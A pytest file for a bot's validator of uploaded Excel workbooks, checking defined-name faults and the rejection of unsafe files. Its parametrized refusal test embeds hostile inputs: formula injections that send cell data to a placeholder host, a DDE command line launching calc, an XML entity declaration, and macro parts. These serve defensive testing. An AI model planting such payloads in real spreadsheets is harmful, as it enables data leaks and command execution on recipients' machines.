"""A superior's workbook that cannot be filled as it should is refused, with what, where and what instead."""

import re
import tomllib
import zipfile
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook
from openpyxl.styles import Protection
from openpyxl.workbook.defined_name import DefinedName

from bot.domain.appendix import LARGEST_APPENDIX
from bot.domain.member import Language
from bot.domain.tables.kind import TableKind
from bot.views.appendix import names
from bot.views.appendix.checking import MOST_FAULTS, Inspection, inspected
from bot.views.appendix.faults import Fault, WorkbookFault
from bot.views.appendix.names import (
    KINDS,
    Fact,
    Figure,
    every_meaning,
    is_ours,
    meaning_of,
    nearest,
    rows_of,
    spelled,
)
from bot.views.appendix.opening import MOST_PARTS
from bot.views.tables.descriptions import TABLES
from tests.views.appendix_books import SHEET, form, parts_of, with_parts

DOCUMENT = (Path(__file__).parents[2] / "docs" / "tables.md").read_text(encoding="utf-8")
DONE = "TS_khac_phuc_tong_da_xong"
RELATIONS, FORMS = "xl/_rels/workbook.xml.rels", b"schemas.openxmlformats.org/spreadsheetml/2006"
WORKBOOK, SHEET_PART, TYPES = "xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml"


def faults(body: bytes) -> tuple[WorkbookFault, ...]:
    found = inspected(body)
    assert isinstance(found, tuple), found
    return found


def only(body: bytes) -> WorkbookFault:
    (fault,) = faults(body)
    return fault


def named(refers: str, change: Callable[[Any], None] = lambda _: None, name: str = DONE) -> WorkbookFault:
    return only(form(change, {name: refers}))


def replaced(part: str, old: bytes, new: bytes) -> bytes:
    content = parts_of(form())[part]
    assert old in content
    return with_parts({part: content.replace(old, new)})


def test_a_name_that_nobody_knows_is_told_with_the_nearest_one() -> None:
    assert named("B7", name="TS_khac_phuc_ca_nhan_da_song") == WorkbookFault(
        Fault.UNKNOWN_NAME, "TS_khac_phuc_ca_nhan_da_song", instead="TS_khac_phuc_ca_nhan_da_xong"
    )
    assert named("B7", name="TS_remediation_unit_12_total_dun").instead == "TS_remediation_unit_12_total_done"
    assert named("B7", name="TS_zzzzzz").instead == ""
    assert named("B7", name="TS_bieu_hien_tong_co").fault is Fault.UNKNOWN_NAME


@pytest.mark.parametrize(
    ("refers", "fault"),
    [
        (f"'{SHEET}'!$B$6:$B$7", Fault.MANY_CELLS),
        (f"'{SHEET}'!$B:$B", Fault.NOT_A_CELL),
        (f"'{SHEET}'!$B$6,'{SHEET}'!$B$7", Fault.NOT_A_CELL),
        ("#REF!", Fault.NOT_A_CELL),
        (f"'{SHEET}'!#REF!", Fault.NOT_A_CELL),
        ("Khác!$B$6", Fault.NOT_A_CELL),
        ("[1]Khác!$B$6", Fault.NOT_A_CELL),
        ("0.2", Fault.NOT_A_CELL),
        (f"SUM('{SHEET}'!$B$6:$B$7)", Fault.NOT_A_CELL),
        (f"'{SHEET}'!$B$1048577", Fault.OFF_SHEET),
        (f"'{SHEET}'!$XFE$1", Fault.OFF_SHEET),
        (f"'{SHEET}'!$B$0", Fault.OFF_SHEET),
    ],
)
def test_a_name_that_is_not_that_of_one_cell_is_told(refers: str, fault: Fault) -> None:
    found = named(refers)
    assert (found.fault, found.name, found.about) == (fault, DONE, refers)


def test_a_cell_that_calculates_is_not_written_over() -> None:
    assert named("B8") == WorkbookFault(Fault.FORMULA, DONE, f"{SHEET}!B8")


def test_of_merged_cells_the_first_one_is_told() -> None:
    assert named("C1") == WorkbookFault(Fault.NOT_FIRST, DONE, f"{SHEET}!C1", instead="A1")
    assert named(f"'{SHEET}'!$A$1:$E$1").fault is Fault.MANY_CELLS


def test_a_protected_sheet_is_filled_where_people_may_type() -> None:
    def protect(book: Any) -> None:
        sheet = book.worksheets[0]
        sheet.protection.enable()
        sheet["C6"].protection = Protection(locked=False)

    assert named("B7", protect) == WorkbookFault(Fault.LOCKED, DONE, f"{SHEET}!B7")
    found = inspected(form(protect, {DONE: "C6"}))
    assert isinstance(found, Inspection)


def test_two_figures_for_one_cell_are_told_and_one_figure_by_two_names_is_none() -> None:
    both = only(form(names={DONE: "C7", "TS_khac_phuc_tong_chi_ra": "C7"}))
    assert both == WorkbookFault(Fault.TWICE, "TS_khac_phuc_tong_chi_ra", f"{SHEET}!C7", DONE)
    same = form(names={DONE: "C7", "TS_remediation_total_done": "C7"})
    assert isinstance(inspected(same), Inspection)


def test_every_fault_is_told_at_once() -> None:
    several = faults(form(names={DONE: "B8", "TS_khac_phuc_tong_gi_do": "B7", "TS_ten_don_vi": "C1"}))
    assert [each.fault for each in several] == [Fault.FORMULA, Fault.UNKNOWN_NAME, Fault.NOT_FIRST]


def test_of_very_many_faults_the_first_are_told_and_no_nearest_is_sought_for_an_endless_name() -> None:
    many = {f"TS_khac_phuc_tong_{n}": "B7" for n in range(3000)}
    found = faults(form(names={"TS_" + "khac_phuc_" * 10_000: "B7", **many}))
    assert len(found) == MOST_FAULTS
    assert [bool(each.instead) for each in found[:2]] == [False, True]


def test_a_workbook_without_a_name_of_ours_is_told() -> None:
    assert only(form(names={"nam_truoc": "F6"})).fault is Fault.NO_NAMES
    assert only(form(names={})).fault is Fault.NO_NAMES


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        (b"", Fault.EMPTY),
        (b" \n", Fault.EMPTY),
        (b"a;b\n1;2\n", Fault.NOT_XLSX),
        (b"PK\x03\x04 and no more", Fault.DAMAGED),
        (b"\xd0\xcf\x11\xe0 an old one", Fault.OTHER_FORMAT),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), Fault.PASSWORD),
        (b"x" * (LARGEST_APPENDIX + 1), Fault.TOO_LARGE),
        (with_parts({"xl/vbaProject.bin": b"x"}), Fault.MACROS),
        (with_parts({"xl/macrosheets/sheet1.xml": b"<a/>"}), Fault.MACROS),
        (with_parts({"xl/activeX/activeX1.xml": b"<a/>"}), Fault.MACROS),
        (with_parts({"xl/embeddings/object.docx": b"x"}), Fault.MACROS),
        (replaced(TYPES, b"spreadsheetml.sheet.main", b"x.macroEnabled.main"), Fault.MACROS),
        (replaced(TYPES, b"spreadsheetml.sheet.main", b"spreadsheetml.template.main"), Fault.OTHER_FORMAT),
        (with_parts({"xl/externalLinks/externalLink1.xml": b"<a/>"}), Fault.OUTSIDE),
        (with_parts({"xl/connections.xml": b"<a/>"}), Fault.OUTSIDE),
        (replaced(SHEET_PART, b"SUM(B6:B7)", b'WEBSERVICE("http://mau.invalid/"&amp;B6)'), Fault.FETCHES),
        (replaced(SHEET_PART, b"SUM(B6:B7)", b'_xlfn.IMAGE("http://mau.invalid/")'), Fault.FETCHES),
        (replaced(SHEET_PART, b"SUM(B6:B7)", b"cmd|'/c calc'!A0"), Fault.FETCHES),
        (replaced(SHEET_PART, b"SUM(B6:B7)", b'HYPERLINK("http://mau.invalid/"&amp;B6,1)'), Fault.FETCHES),
        (replaced(SHEET_PART, b"<worksheet", b"<!DOCTYPE a [<!ENTITY b 'c'>]><worksheet"), Fault.DAMAGED),
        (replaced(SHEET_PART, b"</worksheet>", b""), Fault.DAMAGED),
        (replaced(SHEET_PART, b'<c r="B6"', b"<c"), Fault.DAMAGED),
        (replaced(SHEET_PART, b'<row r="6"', b"<row"), Fault.DAMAGED),
        (
            replaced("xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"worksheets/x.xml"),
            Fault.DAMAGED,
        ),
        (
            replaced(WORKBOOK, b"schemas.openxmlformats.org/spreadsheetml/2006", b"purl.oclc.org/ooxml"),
            Fault.OTHER_FORMAT,
        ),
        (with_parts({f"xl/media/{n}.png": b"" for n in range(MOST_PARTS)}), Fault.TOO_LARGE),
    ],
)
def test_what_is_no_harmless_xlsx_is_refused(body: bytes, fault: Fault) -> None:
    assert only(body).fault is fault


def test_a_link_to_somewhere_else_is_named() -> None:
    def linked(book: Any) -> None:
        book.worksheets[0]["A9"].hyperlink = "http://mau.invalid/bieu"

    found = only(form(linked))
    assert (found.fault, found.about) == (Fault.OUTSIDE, "http://mau.invalid/bieu")


def test_a_bar_in_a_text_and_the_set_up_of_a_printer_are_harmless() -> None:
    body = replaced(SHEET_PART, b"SUM(B6:B7)", b"IF(B6=&quot;a|b&quot;,1,'C|D'!A1)")
    parts = {"xl/printerSettings/printerSettings1.bin": b"\x00\x01"}
    found = inspected(with_parts(parts, body))
    assert isinstance(found, Inspection)
    assert parts.keys() <= found.parts.keys()


def test_two_parts_of_one_name_are_refused() -> None:
    body = BytesIO(form())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(body, "a") as archive:
        archive.writestr(SHEET_PART, b"<worksheet/>")
    assert only(body.getvalue()).fault is Fault.DAMAGED


def test_a_sheet_that_is_a_chart_has_no_cells() -> None:
    def charted(book: Workbook) -> None:
        book.create_chartsheet("Hình")

    assert named("Hình!$A$1", charted).fault is Fault.NOT_A_CELL


def test_every_figure_has_one_name_in_each_language_which_is_read_whatever_its_case_and_accents() -> None:
    meanings = list(every_meaning())
    for language in Language:
        said = [spelled(each, language) for each in meanings]
        assert len({name.casefold() for name in said}) == len(said)
        assert [meaning_of(name) for name in said] == meanings
        assert [meaning_of(name.upper()) for name in said] == meanings
        assert all(is_ours(name) and name.isascii() and len(name) < 100 for name in said)
    assert meaning_of("ts_Khắc_Phục_đơn_vị_12_lãnh_đạo_đã_xong") == Figure(
        TableKind.REMEDIATION, "leading", "done", 12
    )
    assert meaning_of("TS_don_vi_12_ten_don_vi") is None
    assert meaning_of("TS_khac_phuc_don_vi_0_tong_da_xong") is None
    assert nearest("TS_ten_donvi") == spelled(Fact.UNIT_NAME, Language.VI)


def test_every_field_of_every_table_but_that_of_signs_can_be_asked_for() -> None:
    asked = {(each.kind, each.field) for each in every_meaning() if isinstance(each, Figure)}
    assert asked == {(kind, field.key) for kind in KINDS for field in TABLES[kind.value].fields}
    assert set(TableKind) - set(KINDS) == {TableKind.PREVALENCE}
    assert "total" not in rows_of(TableKind.RATINGS)  # what does not add up has no total


def test_the_words_of_names_are_those_that_the_page_about_tables_tells() -> None:
    told = set(re.findall(r"`([a-z0-9_]+)`", DOCUMENT))
    words = tomllib.loads(Path(names.__file__).with_name("names.toml").read_text(encoding="utf-8"))
    for kind in KINDS:
        assert set(words[kind.value].values()) <= told
        assert {words["rows"][part] for part in rows_of(kind)} <= told
    assert all(spelled(fact, language) in DOCUMENT for fact in Fact for language in Language)
    assert words.keys() == {"facts", "kinds", "rows", *(kind.value for kind in KINDS)}


def test_a_name_of_a_unit_is_that_of_the_unit_itself_with_its_number() -> None:
    for meaning in every_meaning():
        if isinstance(meaning, Figure):
            below = replace(meaning, unit=7)
            for language in Language:
                assert meaning_of(spelled(below, language)) == below


def test_a_name_of_a_sheet_that_is_not_there_is_told_with_the_sheet() -> None:
    def of_sheet(book: Any) -> None:
        name = "TS_gi_do"
        book.worksheets[0].defined_names[name] = DefinedName(name, attr_text="A1")

    assert only(form(of_sheet, {})).where == SHEET
